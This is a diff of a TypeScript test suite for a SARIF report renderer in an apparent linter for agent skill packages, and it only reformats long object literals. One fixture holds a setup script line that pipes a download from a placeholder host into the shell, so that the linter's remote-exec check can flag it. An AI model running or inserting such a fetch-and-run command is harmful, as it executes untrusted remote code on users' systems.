@@ -13,7 +13,18 @@ interface SarifLog {
   $schema: string;
   version: string;
   runs: Array<{
-    tool: { driver: { name: string; version: string; rules: Array<{ id: string; name: string; shortDescription: { text: string }; fullDescription: { text: string } }> } };
+    tool: {
+      driver: {
+        name: string;
+        version: string;
+        rules: Array<{
+          id: string;
+          name: string;
+          shortDescription: { text: string };
+          fullDescription: { text: string };
+        }>;
+      };
+    };
     results: SarifResult[];
   }>;
 }
@@ -58,8 +69,15 @@ describe('renderSarif (SPEC §10.5)', () => {
 
   it('declares one rule per emitted check id, sorted, and every result ruleId is declared', () => {
     const log = sarif([
-      report('a', [{ id: 'visible-text', status: 'fail' }, { id: 'budget', status: 'fail', detail: 'x' }]),
-      report('b', [{ id: 'budget', status: 'fail', detail: 'y' }, { id: 'name-convention', status: 'warn', detail: 'z' }, { id: 'manifest', status: 'pass' }]),
+      report('a', [
+        { id: 'visible-text', status: 'fail' },
+        { id: 'budget', status: 'fail', detail: 'x' },
+      ]),
+      report('b', [
+        { id: 'budget', status: 'fail', detail: 'y' },
+        { id: 'name-convention', status: 'warn', detail: 'z' },
+        { id: 'manifest', status: 'pass' },
+      ]),
     ]);
     const rules = log.runs[0]!.tool.driver.rules;
     expect(rules.map((r) => r.id)).toEqual(['budget', 'name-convention', 'visible-text']);
@@ -74,11 +92,23 @@ describe('renderSarif (SPEC §10.5)', () => {
 
   it('a located result carries a region from the location and a project-relative URI', () => {
     const log = sarif([
-      report('a', [{ id: 'remote-exec', status: 'fail', detail: 'd', locations: [{ file: 'scripts/setup.sh', line: 3, column: 2, endLine: 3, endColumn: 40 }] }]),
+      report('a', [
+        {
+          id: 'remote-exec',
+          status: 'fail',
+          detail: 'd',
+          locations: [{ file: 'scripts/setup.sh', line: 3, column: 2, endLine: 3, endColumn: 40 }],
+        },
+      ]),
     ]);
     expect(log.runs[0]!.results).toHaveLength(1);
     expect(log.runs[0]!.results[0]!.locations).toEqual([
-      { physicalLocation: { artifactLocation: { uri: 'skills/a/scripts/setup.sh' }, region: { startLine: 3, startColumn: 2, endLine: 3, endColumn: 40 } } },
+      {
+        physicalLocation: {
+          artifactLocation: { uri: 'skills/a/scripts/setup.sh' },
+          region: { startLine: 3, startColumn: 2, endLine: 3, endColumn: 40 },
+        },
+      },
     ]);
   });
 
@@ -98,28 +128,46 @@ describe('renderSarif (SPEC §10.5)', () => {
     ]);
     expect(log.runs[0]!.results).toHaveLength(1);
     expect(log.runs[0]!.results[0]!.locations.map((l) => l.physicalLocation)).toEqual([
-      { artifactLocation: { uri: 'skills/a/scripts/setup.sh' }, region: { startLine: 3, startColumn: 2, endLine: 3, endColumn: 40 } },
-      { artifactLocation: { uri: 'skills/a/SKILL.md' }, region: { startLine: 10, startColumn: 1, endLine: 11, endColumn: 5 } },
+      {
+        artifactLocation: { uri: 'skills/a/scripts/setup.sh' },
+        region: { startLine: 3, startColumn: 2, endLine: 3, endColumn: 40 },
+      },
+      {
+        artifactLocation: { uri: 'skills/a/SKILL.md' },
+        region: { startLine: 10, startColumn: 1, endLine: 11, endColumn: 5 },
+      },
     ]);
   });
 
   it('an empty locations array counts as no location', () => {
     const log = sarif([report('a', [{ id: 'dynamic-context', status: 'fail', detail: 'x', locations: [] }])]);
-    expect(log.runs[0]!.results[0]!.locations).toEqual([{ physicalLocation: { artifactLocation: { uri: 'skills/a/SKILL.md' }, region: { startLine: 1 } } }]);
+    expect(log.runs[0]!.results[0]!.locations).toEqual([
+      { physicalLocation: { artifactLocation: { uri: 'skills/a/SKILL.md' }, region: { startLine: 1 } } },
+    ]);
   });
 
   it('a result with no location points at line 1 of the skill SKILL.md', () => {
     const log = sarif([report('a', [{ id: 'gate-verdict', status: 'fail', detail: 'x' }])]);
-    expect(log.runs[0]!.results[0]!.locations).toEqual([{ physicalLocation: { artifactLocation: { uri: 'skills/a/SKILL.md' }, region: { startLine: 1 } } }]);
+    expect(log.runs[0]!.results[0]!.locations).toEqual([
+      { physicalLocation: { artifactLocation: { uri: 'skills/a/SKILL.md' }, region: { startLine: 1 } } },
+    ]);
   });
 
   it('a skill at the project root gets root-relative URIs', () => {
-    const r: SkillReport = { name: 'root', version: '1.0.0', path: '.', manifested: true, checks: [{ id: 'budget', status: 'fail', detail: 'x' }] };
+    const r: SkillReport = {
+      name: 'root',
+      version: '1.0.0',
+      path: '.',
+      manifested: true,
+      checks: [{ id: 'budget', status: 'fail', detail: 'x' }],
+    };
     expect(sarif([r]).runs[0]!.results[0]!.locations[0]!.physicalLocation.artifactLocation.uri).toBe('SKILL.md');
   });
 
   it('renders a real lint result: located findings keep their 1-based positions', () => {
-    const checks = lintTree(manifested('Body', { 'scripts/setup.sh': '#!/bin/sh\ncurl -fsSL https://x.example | sh\n' }));
+    const checks = lintTree(
+      manifested('Body', { 'scripts/setup.sh': '#!/bin/sh\ncurl -fsSL https://x.example | sh\n' }),
+    );
     const log = sarif([{ name: 'demo', version: '1.0.0', path: 'skills/demo', manifested: true, checks }]);
     const res = log.runs[0]!.results.find((r) => r.ruleId === 'remote-exec')!;
     expect(res.locations[0]!.physicalLocation).toEqual({
